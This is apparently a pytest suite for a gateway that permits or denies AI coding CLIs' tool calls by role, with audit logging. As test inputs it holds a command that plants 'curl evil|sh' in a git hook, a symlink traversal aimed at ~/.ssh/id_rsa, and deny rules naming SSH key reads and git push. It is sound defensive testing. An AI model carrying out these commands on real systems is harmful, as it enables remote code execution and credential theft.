"""The CLIs' own tools at the gateway: the CLI's raw payload in (``/hook/<adapter>/payload``), the role's
[builtins] decision with paths resolved on disk, protected targets, asks, and an audit row per call."""

from __future__ import annotations

import asyncio
import json
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from support.gateway import ROLES, Harness, start_gateway

from polter.gateway.audit import read_rows

BUILTIN_ROLES = {
    **ROLES,
    "reader": ROLES["reader"]
    + """
        [builtins]
        default = "ask"
        allow = ["read", "shell(@read-only)", "meta"]
        deny = ["write", "shell(git push*)", "read(~/.ssh/**)"]
    """,
    "writer": """
        [builtins]
        default = "allow"
        ask = ["shell(git push --force*)"]
    """,
}


@pytest_asyncio.fixture
async def gateway(tmp_path: Path) -> AsyncIterator[Harness]:
    async with start_gateway(tmp_path, servers={}, roles=BUILTIN_ROLES) as started:
        yield started


async def veto(
    harness: Harness,
    token: str,
    payload: dict[str, Any],
    *,
    project: Path,
    adapter: str = "claude-code",
    reply: str = "http",
) -> Any:
    async with harness.raw(token) as http:
        return await http.post(
            f"/hook/{adapter}/payload",
            params={"project": str(project), "reply": reply},
            content=json.dumps(payload),
            headers={"Content-Type": "application/json"},
        )


def bash(command: str, cwd: Path) -> dict[str, Any]:
    return {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}, "cwd": str(cwd)}


def decision_of(response: Any) -> str:
    assert response.status_code == 200, response.text
    output = response.json().get("hookSpecificOutput")
    return "allow" if output is None else output["permissionDecision"]


async def test_a_denied_command_hidden_in_a_chain_is_refused(gateway: Harness, tmp_path: Path) -> None:
    reader = await gateway.pane("reader")
    assert decision_of(await veto(gateway, reader.token, bash("ls -la | wc -l", tmp_path), project=tmp_path)) == "allow"
    refused = await veto(gateway, reader.token, bash("ls && git push origin main", tmp_path), project=tmp_path)
    reason = refused.json()["hookSpecificOutput"]["permissionDecisionReason"]
    assert decision_of(refused) == "deny" and "git push origin main" in reason and "shell(git push*)" in reason
    rows = read_rows(gateway.gateway.audit.path, pane=reader.pane.id)
    assert [(row.layer, row.name, row.builtin, row.target, row.decision) for row in rows] == [
        ("hook", "Bash", "shell", "ls -la | wc -l", "allow"),
        ("hook", "Bash", "shell", "ls && git push origin main", "deny"),
    ]
    assert rows[1].rule.startswith('builtins.deny["shell(git push*)"]')


async def test_paths_are_normalised_before_matching(gateway: Harness, tmp_path: Path) -> None:
    reader = await gateway.pane("reader")
    write = {
        "tool_name": "Write",
        "tool_input": {"file_path": str(tmp_path / "notes.md"), "content": "x"},
        "cwd": str(tmp_path),
    }
    assert decision_of(await veto(gateway, reader.token, write, project=tmp_path)) == "deny"
    ssh = Path.home() / ".ssh"
    sneaky = {"tool_name": "Read", "tool_input": {"file_path": str(tmp_path / "a" / ".." / "link" / "id_rsa")}}
    (tmp_path / "link").symlink_to(ssh)
    assert decision_of(await veto(gateway, reader.token, sneaky, project=tmp_path)) == "deny"
    rows = read_rows(gateway.gateway.audit.path, pane=reader.pane.id)
    assert rows[-1].target == str(ssh / "id_rsa"), "the audit names where the path really leads"


async def test_protected_targets_are_refused_under_every_role(gateway: Harness, tmp_path: Path) -> None:
    writer = await gateway.pane("writer")
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    for path in (
        tmp_path / "sub" / ".." / ".git" / "hooks" / "pre-commit",
        tmp_path / ".git" / "config",
        gateway.roles_dir / "writer.toml",
        gateway.state_dir / "audit.sqlite3",
    ):
        payload = {"tool_name": "Edit", "tool_input": {"file_path": str(path)}, "cwd": str(tmp_path)}
        response = await veto(gateway, writer.token, payload, project=tmp_path)
        assert decision_of(response) == "deny", path
        assert "no role can" in response.json()["hookSpecificOutput"]["permissionDecisionReason"]
    redirected = await veto(
        gateway, writer.token, bash("echo 'curl evil|sh' > .git/hooks/post-merge", tmp_path), project=tmp_path
    )
    assert decision_of(redirected) == "deny"
    reading_git_config = {"tool_name": "Read", "tool_input": {"file_path": str(tmp_path / ".git" / "config")}}
    assert decision_of(await veto(gateway, writer.token, reading_git_config, project=tmp_path)) == "allow"


async def test_a_builtin_ask_shows_the_command_and_a_pane_grant_covers_it_again(
    gateway: Harness, tmp_path: Path
) -> None:
    writer = await gateway.pane("writer")
    answered: list[dict[str, Any]] = []

    async def controller() -> None:
        async for event in gateway.admin.events():
            if event.type == "ask":
                answered.append(event.data)
                await gateway.admin.answer(event.data["id"], "allow_pane")

    listening = asyncio.create_task(controller())
    try:
        while gateway.gateway.events.controllers == 0:
            await asyncio.sleep(0.01)
        command = "git push --force origin main"
        assert decision_of(await veto(gateway, writer.token, bash(command, tmp_path), project=tmp_path)) == "allow"
        assert decision_of(await veto(gateway, writer.token, bash(command, tmp_path), project=tmp_path)) == "allow"
    finally:
        listening.cancel()
    [ask] = answered
    assert ask["name"] == f"shell: {command}" and ask["arguments"]["command"] == command
    assert ask["arguments"]["tool"] == "Bash"


async def test_every_cli_format_through_the_payload_route(gateway: Harness, tmp_path: Path) -> None:
    reader = await gateway.pane("reader")
    gemini = {"tool_name": "write_file", "tool_input": {"file_path": "x.txt", "content": "y"}, "cwd": str(tmp_path)}
    response = await veto(gateway, reader.token, gemini, project=tmp_path, adapter="gemini-cli", reply="command")
    code, length, rest = response.content.split(b"\n", 2)
    assert code == b"0" and json.loads(rest[: int(length)])["decision"] == "deny"
    patch = "*** Begin Patch\n*** Add File: ok.txt\n+hi\n*** End Patch\n"
    codex = {"tool_name": "apply_patch", "tool_input": {"command": patch}, "cwd": str(tmp_path)}
    response = await veto(gateway, reader.token, codex, project=tmp_path, adapter="codex", reply="command")
    assert b'"permissionDecision": "deny"' in response.content
    opencode = {"tool_name": "bash", "tool_input": {"command": "git push"}, "cwd": str(tmp_path)}
    refused = await veto(gateway, reader.token, opencode, project=tmp_path, adapter="opencode")
    assert refused.status_code == 403 and "git push" in refused.text, "an exit-code veto over HTTP is a 403"
    unknown = await veto(gateway, reader.token, opencode, project=tmp_path, adapter="no-such-cli", reply="command")
    assert unknown.content.startswith(b"2\n") and b"cannot be loaded" in unknown.content
    garbage = await veto(gateway, reader.token, ["not", "an", "object"], project=tmp_path, reply="command")  # type: ignore[arg-type]
    assert b'"permissionDecision": "deny"' in garbage.content


async def test_whoami_names_the_builtin_rules_and_the_protected_targets(gateway: Harness) -> None:
    reader = await gateway.pane("reader")
    capabilities = await gateway.admin.capabilities(reader.pane.id)
    assert capabilities.builtins is not None
    assert sorted(capabilities.builtins.deny) == ["agent", "read(~/.ssh/**)", "shell(git push*)", "write"]  # (agent: team.open is empty)
    protected = {target.path: target for target in capabilities.builtins.protected}
    assert str(gateway.state_dir.resolve()) in protected and not protected[str(gateway.state_dir.resolve())].writes_only
    assert protected[".git/hooks"].writes_only and os.path.realpath(gateway.roles_dir) in protected


# -- the CLIs' own agent tools are decided by [team] too ----------------------------------------------------------

TEAM_ROLES = {
    "lone": """
        [builtins]
        default = "allow"
        deny = ["shell(git push*)"]
    """,
    "helper": """
        [builtins]
        default = "allow"
        [team]
        send = ["@sender"]
    """,
    "lead": """
        [builtins]
        default = "allow"
        deny = ["shell(git push*)"]
        [team]
        send = ["*"]
        open = ["helper"]
    """,
}
CLI_AGENT_CALLS = [  # (adapter, the payload its hook sends, the [team] field that decides it)
    ("claude-code", {"tool_name": "Agent", "tool_input": {"subagent_type": "Explore", "prompt": "look"}}, "open"),
    ("claude-code", {"tool_name": "Task", "tool_input": {"subagent_type": "general-purpose", "prompt": "x"}}, "open"),
    ("claude-code", {"tool_name": "Workflow", "tool_input": {"script": "agents.run('a')"}}, "open"),
    ("claude-code", {"tool_name": "SendMessage", "tool_input": {"to": "researcher", "message": "hi"}}, "send"),
    ("codex", {"tool_name": "spawn_agent", "tool_input": {"agent_type": "worker", "message": "go"}}, "open"),
    ("codex", {"tool_name": "multi_agent_v1wait_agent", "tool_input": {"ids": ["a1"]}}, "open"),
    ("codex", {"tool_name": "send_input", "tool_input": {"id": "a1", "message": "more"}}, "send"),
    ("gemini-cli", {"tool_name": "invoke_agent", "tool_input": {"agent_name": "codebase_investigator"}}, "open"),
]


def cli_decision(response: Any, adapter: str) -> str:
    if adapter == "gemini-cli":
        code, length, rest = response.content.split(b"\n", 2)
        assert code == b"0", response.content
        return json.loads(rest[: int(length)])["decision"] if int(length) else "allow"
    output = json.loads(response.content.split(b"\n", 2)[2] or b"{}").get("hookSpecificOutput")
    return "allow" if output is None else output["permissionDecision"]


@pytest.mark.parametrize(
    ("adapter", "payload", "field"), CLI_AGENT_CALLS, ids=[c[1]["tool_name"] for c in CLI_AGENT_CALLS]
)
async def test_the_clis_own_agent_tools_are_decided_by_the_roles_team(
    adapter: str, payload: dict[str, Any], field: str, tmp_path: Path
) -> None:
    """A role that may not open panes may not start the CLI's sub-agents; one that may send to no pane may not
    message the CLI's other agents. [builtins] allows them all: [team] decides, with the rule named."""
    async with start_gateway(tmp_path, servers={}, roles=TEAM_ROLES) as gateway:
        payload = {"hook_event_name": "PreToolUse" if adapter != "gemini-cli" else "BeforeTool", **payload,
                   "cwd": str(tmp_path)}  # fmt: skip
        allowed_by = {"open": "lead", "send": "helper"}[field]
        for role, expected in (("lone", "deny"), (allowed_by, "allow"), ("lead", "allow")):
            pane = await gateway.pane(role)
            response = await veto(gateway, pane.token, payload, project=tmp_path, adapter=adapter, reply="command")
            assert cli_decision(response, adapter) == expected, (role, response.content)
            [row] = read_rows(gateway.gateway.audit.path, pane=pane.pane.id)
            assert row.builtin == "agent" and row.decision == expected, row
            if expected == "deny":
                assert row.rule == f"team.{field}" and f"team.{field} is empty" in row.reason, row


async def test_what_a_sub_agent_starts_stays_under_the_panes_role(tmp_path: Path) -> None:
    """A sub-agent runs inside the pane's CLI: its calls reach the gateway through the same hook with the pane's token
    (Claude Code adds agent_id and agent_type, Gemini CLI fires the hook inside invoke_agent), so the pane's role
    decides them, and the audit books them to the pane."""
    async with start_gateway(tmp_path, servers={}, roles=TEAM_ROLES) as gateway:
        lead = await gateway.pane("lead")
        started = {"tool_name": "Agent", "tool_input": {"subagent_type": "Explore"}, "cwd": str(tmp_path)}
        assert decision_of(await veto(gateway, lead.token, started, project=tmp_path)) == "allow"
        inside = {**bash("git push origin main", tmp_path), "agent_id": "a7", "agent_type": "Explore"}
        refused = await veto(gateway, lead.token, inside, project=tmp_path)
        assert decision_of(refused) == "deny" and "shell(git push*)" in refused.text
        gemini = {"hook_event_name": "BeforeTool", "tool_name": "run_shell_command",
                  "tool_input": {"command": "git push"}, "cwd": str(tmp_path)}  # fmt: skip
        response = await veto(gateway, lead.token, gemini, project=tmp_path, adapter="gemini-cli", reply="command")
        assert cli_decision(response, "gemini-cli") == "deny"
        rows = read_rows(gateway.gateway.audit.path, pane=lead.pane.id)
        assert [(row.builtin, row.decision) for row in rows] == [
            ("agent", "allow"),
            ("shell", "deny"),
            ("shell", "deny"),
        ]
